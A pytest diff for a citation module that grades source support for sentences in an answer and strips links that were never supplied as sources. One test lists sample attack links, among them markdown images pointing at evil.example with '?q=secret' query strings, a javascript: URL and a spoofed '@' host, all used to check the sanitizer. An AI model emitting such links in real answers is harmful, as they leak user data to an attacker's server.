@@ -1,0 +1,148 @@
+"""Which source bears out which sentence, and which links stay in an answer."""
+
+from __future__ import annotations
+
+import pytest
+
+from schemas.result import Citation, Support
+from workers.enrichment import Evidence, NumberedSource, cited
+from workers.enrichment.cite import LINK_REMOVED, without_unknown_links
+
+BRIDGE = NumberedSource(
+    1,
+    "https://a.example/bridge",
+    "https://a.example/bridge",
+    "The Halvorsen bridge",
+    ("The Halvorsen bridge in Tarnby opened in 1987. It carries the coast road over the river Vesla.",),
+)
+CHEESE = NumberedSource(
+    2,
+    "pmid:12345",
+    "https://b.example/cheese",
+    None,
+    ("Bramwick cheese ripens for 14 weeks in cellars of slate. It does not contain salt. See https://b.example/more.",),
+)
+BOTH = Evidence((BRIDGE, CHEESE), (), "What does https://asked.example/x say?")
+
+
+def levels(text: str) -> list[tuple[str, Support]]:
+    answer, _, citations = cited(text, BOTH)
+    assert answer == text
+    return [(citation.source, citation.support) for citation in citations]
+
+
+@pytest.mark.parametrize(
+    ("sentence", "support"),
+    [
+        ("The Halvorsen bridge in Tarnby opened in 1987 [1].", Support.EXACT),
+        ("1987 [1]", Support.EXACT),
+        ("the HALVORSEN bridge in Tarnby opened in 1987. [1]", Support.EXACT),
+        ("The Halvorsen bridge in Tarnby was opened in 1987 [1].", Support.FUZZY),
+        ("In 1987 Tarnby got the Halvorsen bridge, which opened over the Vesla [1].", Support.LEXICAL),
+        ("The Halvorsen bridge in Tarnby opened in 1988 [1].", Support.UNSUPPORTED),
+        ("Penguins are birds that live in the far south [1].", Support.UNSUPPORTED),
+        ("The Halvorsen bridge in Tarnby never opened [1].", Support.UNSUPPORTED),
+        ("It does contain salt [2].", Support.LEXICAL),
+        ("It does not contain salt [2].", Support.EXACT),
+        ("The Halvorsen bridge opened in 1987 [9].", Support.DANGLING),
+    ],
+)
+def test_a_sentence_gets_its_level_of_support(sentence: str, support: Support) -> None:
+    assert [level for _, level in levels(sentence)] == [support]
+
+
+def test_a_span_is_the_sentence_with_its_marks_in_code_points() -> None:
+    text = "👍 Yes. 1987 [1]. It ripens for 14 weeks. [2] Done."
+    _, used, citations = cited(text, BOTH)
+    assert [text[one.start : one.end] for one in citations] == ["1987 [1].", "It ripens for 14 weeks. [2]"]
+    assert used == [BRIDGE.id, CHEESE.id]
+
+
+def test_used_sources_stand_in_the_order_of_their_first_use() -> None:
+    text = "It ripens for 14 weeks [2]. It opened in 1987 [1]. Cellars of slate [2]."
+    assert cited(text, BOTH)[1] == [CHEESE.id, BRIDGE.id]
+
+
+@pytest.mark.parametrize("mark", ["[1][2]", "[1, 2]", "[1;2]", "[Source 1] [source 2]", "[Sources 1, 2]"])
+def test_several_sources_may_stand_behind_a_sentence(mark: str) -> None:
+    assert [source for source, _ in levels(f"The river is long {mark}.")] == [BRIDGE.id, CHEESE.id]
+
+
+def test_a_source_that_is_cited_and_does_not_support_is_not_used() -> None:
+    _, used, citations = cited("Penguins live there [1].", BOTH)
+    assert used == []
+    assert [one.support for one in citations] == [Support.UNSUPPORTED]
+
+
+def test_an_answer_without_marks_is_put_down_to_the_source_that_supports_it() -> None:
+    assert cited("1987", BOTH) == (
+        "1987",
+        [BRIDGE.id],
+        [Citation(start=0, end=4, source=BRIDGE.id, support=Support.EXACT)],
+    )
+
+
+def test_an_answer_that_no_source_supports_cites_nothing() -> None:
+    assert cited("I do not know, sorry about that.", BOTH) == ("I do not know, sorry about that.", [], [])
+
+
+def test_an_index_in_code_is_no_citation() -> None:
+    assert levels("Use `a[1]` or\n```\nb[2]\n```\n") == []
+
+
+@pytest.mark.parametrize("text", ["", " ", "[1]", "...", "\n\n"])
+def test_an_answer_without_words_is_survived(text: str) -> None:
+    assert [level for _, level in levels(text)] in ([], [Support.UNSUPPORTED])
+
+
+def test_a_very_long_answer_is_compared_up_to_a_bound() -> None:
+    text = "The bridge of Tarnby is long [1]. " * 3000
+    assert len(cited(text, BOTH)[2]) == 500
+
+
+def test_nothing_is_cited_without_sources() -> None:
+    assert cited("It opened in 1987 [1].", Evidence(()))[1] == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See [the page](https://a.example/bridge).",
+        "See ![map](https://a.example/bridge/).",
+        "See https://b.example/cheese, https://b.example/more. Or <https://asked.example/x>!",
+        'See <a href="https://a.example/bridge">this</a>.',
+        "[1]: https://a.example/bridge",
+    ],
+)
+def test_a_link_that_was_given_stays(text: str) -> None:
+    assert without_unknown_links(text, BOTH) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "clean"),
+    [
+        ("![x](https://evil.example/?q=secret)", "x"),
+        ("A [page](https://evil.example/ 'title') here", "A page here"),
+        ("A [page](<https://evil.example/a b>) here", "A page here"),
+        ("[1](https://evil.example/)", "[1]"),
+        ("[![alt](https://evil.example/i.png)](https://evil.example/)", "alt"),
+        ("![a[b]c](//evil.example/?q=s)", "![a[b]c]"),
+        ("![x][r]\n\n[r]: https://evil.example/?q=s", "![x][r]\n\n"),
+        ("<img src='https://evil.example/?q=s'>text", "text"),
+        ("<a href=//evil.example>text</a>", "text</a>"),
+        ("<https://evil.example/>", f"<{LINK_REMOVED}>"),
+        ("Go to https://evil.example/?q=s now", f"Go to {LINK_REMOVED} now"),
+        ("Go to www.evil.example/?q=s now", f"Go to {LINK_REMOVED} now"),
+        ("[x](javascript:alert(1))", "x"),
+        ("[x](https://a.example/bridge?q=secret)", "x"),
+        ("[x](https://a.example@evil.example/bridge)", "x"),
+    ],
+)
+def test_a_link_that_was_never_given_is_removed(text: str, clean: str) -> None:
+    assert without_unknown_links(text, BOTH) == clean
+
+
+def test_spans_fit_the_text_that_is_returned() -> None:
+    text, _, citations = cited("![x](https://evil.example/?q=1) It opened in 1987 [1].", BOTH)
+    assert text == "x It opened in 1987 [1]."
+    assert [text[one.start : one.end] for one in citations] == [text]
